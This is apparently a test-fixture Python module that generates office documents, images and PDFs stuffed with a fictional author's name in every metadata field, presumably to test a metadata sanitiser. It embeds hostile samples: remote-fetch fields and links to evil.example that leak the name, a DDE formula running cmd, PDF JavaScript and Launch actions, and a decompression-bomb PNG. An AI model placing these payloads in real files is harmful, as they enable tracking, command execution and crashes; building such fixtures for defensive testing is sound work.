"""Files as people have them, made in code: with the name of whoever made them in every place that real programs put it."""

import io
import struct
import zipfile
import zlib
from random import Random

import pikepdf
from PIL import Image
from pikepdf import Array, Dictionary, Name, String

WHO = "Zuzanna Qvist"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
OFFICE = "application/vnd.openxmlformats-officedocument."


def picture(kind="JPEG", size=(60, 40), *, exif=True, **more):
    """A photograph: who, where, when, with what, turned on its side, with a small copy that shows more."""
    told = Image.Exif()
    if exif:
        told[0x010F], told[0x0110], told[0x013B], told[0x8298] = "Canon", WHO, WHO, WHO
        told[0x0132], told[0x010E], told[0x0112] = "2021:07:10 12:00:00", WHO, 6
        told.get_ifd(0x8825).update({1: "N", 2: (33.0, 53.0, 0.0), 3: "E", 4: (35.0, 30.0, 0.0)})
        told.get_ifd(0x8769).update({0x927C: WHO.encode(), 0x9003: "2021:07:10 12:00:00", 0xA430: WHO})
        more = {"exif": told, **more}
    out = io.BytesIO()
    image = Image.frombytes("RGB", size, Random(1).randbytes(3 * size[0] * size[1]))
    image.save(out, kind, **more)
    return out.getvalue()


def with_xmp(jpeg):
    xmp = f'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><creator>{WHO}</creator></x:xmpmeta>'.encode()
    comment = WHO.encode()
    parts = b"\xff\xe1" + struct.pack(">H", len(xmp) + 2) + xmp + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + parts + jpeg[2:] + picture(exif=False)  # and another picture behind its end


def vast_png(width=50_000, height=50_000):
    """A heading that promises two and a half thousand million points, and next to nothing behind it."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    heading = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", heading) + chunk(b"IDAT", zlib.compress(b"\0" * 100_000)) + chunk(b"IEND", b"")


def moving_png(frames=3):
    out = io.BytesIO()
    pictures = [Image.new("RGB", (4, 4), (n, 0, 0)) for n in range(frames)]
    pictures[0].save(out, "PNG", save_all=True, append_images=pictures[1:])
    return out.getvalue()


def zipped(parts, *, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.comment = comment
        for name, told in parts.items():
            archive.writestr(name, told, zipfile.ZIP_STORED if name == "mimetype" else None)
    return out.getvalue()


def unzipped(data):
    """Everything that stands in an archive: names and contents, one after the other."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"\n".join(name.encode() + b"\n" + archive.read(name) for name in archive.namelist())


def _rels(*links):
    each = "".join(
        f'<Relationship Id="{id_}" Type="{kind if "//" in kind else f"{R}/{kind}"}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if "://" in target else ""}/>'
        for id_, kind, target in links
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{each}</Relationships>'


def _package(main, main_type, parts, links):
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{WHO}</dc:creator><cp:lastModifiedBy>{WHO}</cp:lastModifiedBy></cp:coreProperties>'
    )
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="jpeg" ContentType="image/jpeg"/><Override PartName="/{main}" ContentType="{main_type}"/></Types>'
    )
    folder, _slash, last = main.partition("/")
    return {
        "[Content_Types].xml": types,
        "_rels/.rels": _rels(
            ("rId1", "officeDocument", main), ("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml"),
            ("rId3", "extended-properties", "docProps/app.xml"), ("rId4", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg"),
        ),
        "docProps/core.xml": core, "docProps/app.xml": f"<Properties><Company>{WHO}</Company></Properties>", "docProps/thumbnail.jpeg": picture(),
        f"{folder}/_rels/{last}.rels": _rels(*links),
        **parts,
    }  # fmt: skip


def word(body="", **more):
    """A text with tracked changes, a comment, a link that fetches, a picture that tells where it was taken."""
    text = f"""<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"
 xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="w14"
 xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>
<w:p w:rsidR="00AB12CD" w14:paraId="1A2B3C4D"><w:commentRangeStart w:id="0"/><w:r w:rsidR="00AB12CD"><w:t xml:space="preserve">We met in small groups. </w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>
<w:ins w:id="1" w:author="{WHO}" w:date="2021-07-10T12:00:00Z"><w:r><w:t>This was added.</w:t></w:r></w:ins>
<w:del w:id="2" w:author="{WHO}" w:date="2021-07-10T12:00:00Z"><w:r><w:delText>This was struck out by {WHO}.</w:delText></w:r></w:del>
<w:moveTo w:id="3" w:author="{WHO}"><w:r><w:t> This was moved here.</w:t></w:r></w:moveTo>
<w:r><w:rPr><w:b/><w:rPrChange w:id="4" w:author="{WHO}"><w:rPr/></w:rPrChange></w:rPr><w:t> Bold.</w:t></w:r></w:p>
<w:p><w:pPr><w:rPr><w:ins w:id="5" w:author="{WHO}"/></w:rPr></w:pPr><w:fldSimple w:instr=" AUTHOR "><w:r><w:t>{WHO}</w:t></w:r></w:fldSimple>
<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/{WHO}.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{WHO}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:hyperlink r:id="rId5"><w:r><w:t>an open link</w:t></w:r></w:hyperlink> <w:hyperlink r:id="rId6"><w:r><w:t>a file of hers</w:t></w:r></w:hyperlink></w:p>
<w:tbl><w:tr><w:trPr><w:del w:id="6" w:author="{WHO}"/></w:trPr><w:tc><w:p><w:r><w:t>{WHO} in a row struck out</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>A row that stays</w:t></w:r></w:p></w:tc></w:tr></w:tbl>
<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="{WHO}.jpg" descr="C:\\Users\\{WHO}\\photo.jpg"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="{WHO}" descr="A well."/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId4" r:link="rId7"><a:extLst><a:ext uri="{{x}}"/></a:extLst></a:blip></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
{body}<w:permStart w:id="7" w:ed="{WHO}"/><w:sectPr w:rsidR="00AB12CD"/></w:body></w:document>"""
    settings = (
        f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/><w:trackRevisions/><w:defaultTabStop w:val="720"/>'
        f'<w:rsids><w:rsidRoot w:val="00AB12CD"/></w:rsids><w:docVars><w:docVar w:name="x" w:val="{WHO}"/></w:docVars></w:settings>'
    )
    parts = {
        "word/document.xml": text, "word/settings.xml": settings, "word/_rels/settings.xml.rels": _rels(("rId1", "attachedTemplate", "file:///C:/Users/Zuzanna%20Qvist/T.dotx")),
        "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:author="{WHO}" w:initials="ZQ"/></w:comments>', "word/people.xml": f"<people>{WHO}</people>",
        "word/media/image1.jpeg": picture(), "customXml/item1.xml": f"<x>{WHO}</x>",
        "word/styles.xml": f'<w:styles xmlns:w="{W}"><w:style w:type="paragraph" w:styleId="a"><w:name w:val="Normal"/><w:rsid w:val="00AB12CD"/></w:style></w:styles>',
    }  # fmt: skip
    links = [
        ("rId1", "styles", "styles.xml"), ("rId2", "settings", "settings.xml"), ("rId3", "comments", "comments.xml"), ("rId4", "image", "media/image1.jpeg"),
        ("rId5", "hyperlink", "https://www.un.org/"), ("rId6", "hyperlink", f"file:///C:/Users/{WHO}/x.docx"), ("rId7", "image", f"http://evil.example/{WHO}.png"),
        ("rId8", "customXml", "../customXml/item1.xml"), ("rId9", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
    ]  # fmt: skip
    kind = more.pop("kind", OFFICE + "wordprocessingml.document.main+xml")
    return zipped(_package("word/document.xml", kind, parts | more.pop("parts", {}), links), **more)


def sheets(state="visible", kind=OFFICE + "spreadsheetml.sheet.main+xml"):
    book = f"""<workbook xmlns="{S}" xmlns:r="{R}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"
 xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"><fileSharing userName="{WHO}"/>
<mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath url="C:\\Users\\{WHO}\\"/></mc:Choice></mc:AlternateContent>
<sheets><sheet name="Answers" sheetId="1" state="{state}" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId4"/></externalReferences></workbook>"""
    sheet = f"""<worksheet xmlns="{S}" xmlns:r="{R}" xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" xr:uid="{{{WHO}}}"><sheetPr codeName="{WHO}"/>
<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>[1]Sheet1!A1</f><v>7</v></c><c r="C1"><f>SUM(B1)</f><v>7</v></c><c r="D1"><f>cmd|'/C calc'!A0</f><v>1</v></c></row></sheetData>
<hyperlinks><hyperlink ref="A1" r:id="rId2"/></hyperlinks><pageSetup orientation="portrait" r:id="rId1"/><legacyDrawing r:id="rId3"/></worksheet>"""
    parts = {
        "xl/workbook.xml": book, "xl/worksheets/sheet1.xml": sheet, "xl/sharedStrings.xml": f'<sst xmlns="{S}"><si><t>Small groups</t></si></sst>',
        "xl/worksheets/_rels/sheet1.xml.rels": _rels(
            ("rId1", "printerSettings", "../printerSettings/p.bin"), ("rId2", "hyperlink", "mailto:zuzanna@qvist.example"), ("rId3", "vmlDrawing", "../v.vml"), ("rId4", "comments", "../comments1.xml")
        ),
        "xl/printerSettings/p.bin": WHO, "xl/v.vml": WHO, "xl/comments1.xml": f'<comments xmlns="{S}"><authors><author>{WHO}</author></authors></comments>',
        "xl/persons/person.xml": WHO, "xl/externalLinks/externalLink1.xml": WHO,
    }  # fmt: skip
    links = [
        ("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "sharedStrings", "sharedStrings.xml"),
        ("rId3", "http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/person.xml"), ("rId4", "externalLink", "externalLinks/externalLink1.xml"),
    ]  # fmt: skip
    return zipped(_package("xl/workbook.xml", kind, parts, links))


def slides():
    show = f'<p:presentation xmlns:p="{P}" xmlns:r="{R}"><p:notesMasterIdLst/><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:custDataLst><p:tags r:id="rId9"/></p:custDataLst></p:presentation>'
    slide = f"""<p:sld xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="{WHO}"><a:hlinkClick r:id="rId3"/></p:cNvPr></p:nvSpPr>
<p:txBody><a:p><a:r><a:t>Small groups</a:t></a:r></a:p></p:txBody></p:sp><p:extLst><p:ext uri="{WHO}"/></p:extLst></p:spTree></p:cSld><p:timing>{WHO}</p:timing></p:sld>"""
    parts = {
        "ppt/presentation.xml": show, "ppt/slides/slide1.xml": slide, "ppt/notesSlides/n.xml": WHO, "ppt/comments/c.xml": WHO, "ppt/commentAuthors.xml": WHO,
        "ppt/slides/_rels/slide1.xml.rels": _rels(("rId1", "notesSlide", "../notesSlides/n.xml"), ("rId2", "comments", "../comments/c.xml"), ("rId3", "hyperlink", f"file:///{WHO}")),
    }  # fmt: skip
    links = [("rId1", "slide", "slides/slide1.xml"), ("rId2", "commentAuthors", "commentAuthors.xml")]
    return zipped(_package("ppt/presentation.xml", OFFICE + "presentationml.presentation.main+xml", parts, links))


def odt(**more):
    spaces = " ".join(f'xmlns:{word}="urn:oasis:names:tc:opendocument:xmlns:{uri}:1.0"' for word, uri in (("office", "office"), ("text", "text"), ("draw", "drawing"), ("meta", "meta")))
    content = f"""<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:officeooo="http://openoffice.org/2009/office"><office:scripts>{WHO}</office:scripts><office:body><office:text>
<text:tracked-changes><text:changed-region><text:deletion><office:change-info><dc:creator>{WHO}</dc:creator></office:change-info><text:p>struck out</text:p></text:deletion></text:changed-region></text:tracked-changes>
<text:p officeooo:rsid="001">We met <office:annotation><dc:creator>{WHO}</dc:creator></office:annotation>in small groups.<text:author-name>{WHO}</text:author-name> <text:a xlink:href="https://www.un.org/">open</text:a> <text:a xlink:href="file:///{WHO}">a file of hers</text:a></text:p>
<draw:frame draw:name="{WHO}"><draw:image xlink:href="Pictures/a.jpg"/></draw:frame><draw:frame><draw:image xlink:href="http://evil.example/{WHO}.png"/></draw:frame></office:text></office:body></office:document-content>"""
    return zipped({
        "mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content, "meta.xml": f"<x>{WHO}</x>", "settings.xml": WHO,
        "Thumbnails/thumbnail.png": WHO, "Pictures/a.jpg": picture(), "META-INF/manifest.xml": "<x/>", **more,
    })  # fmt: skip


def pdf(**save):
    """A page with a link, a comment, a field and a photograph; scripts, files and properties around it; an earlier text beneath."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(200, 200))
    photo = made.make_stream(picture(), Type=Name.XObject, Subtype=Name.Image, Width=60, Height=40, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode)
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=photo))
    page.obj.Contents = made.make_stream(b"q 60 0 0 40 0 0 cm /Im0 Do Q % We met in small groups.")
    page.obj.PieceInfo, page.obj.LastModified = Dictionary(X=String(WHO)), String("D:20210710")

    def note(kind, **more):
        return made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9], T=String(WHO), M=String("D:20210710"), **more))

    page.obj.Annots = Array([
        note("Link", A=Dictionary(S=Name.URI, URI=String("https://www.un.org/"))), note("Link", A=Dictionary(S=Name.Launch, F=String(WHO))),
        note("Text", Contents=String(WHO)), note("Widget", FT=Name.Tx, V=String(WHO)),
    ])  # fmt: skip
    root = made.Root
    root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{WHO}')"))
    root.AcroForm = Dictionary(Fields=Array())
    made.attachments["x.txt"] = WHO.encode()
    with made.open_metadata() as xmp:
        xmp["dc:creator"] = [WHO]
    made.docinfo.Author, made.docinfo.Producer = String(WHO), String("Word")
    out = io.BytesIO()
    made.save(out, compress_streams=False, **save)
    return out.getvalue()


def saved_again(data):
    """The same PDF with a text written over in a further saving: the old one still stands in the file."""
    number = data.count(b" obj") + 50
    start = len(data)
    extra = f"{number} 0 obj\n<< /Secret ({WHO}) >>\nendobj\n".encode()
    table = f"xref\n{number} 1\n{start:010} 00000 n \ntrailer\n<< /Root 1 0 R /Size {number + 1} /Prev {data.rindex(b'startxref')} >>\nstartxref\n{start + len(extra)}\n%%EOF\n"
    return data + extra + table.encode()
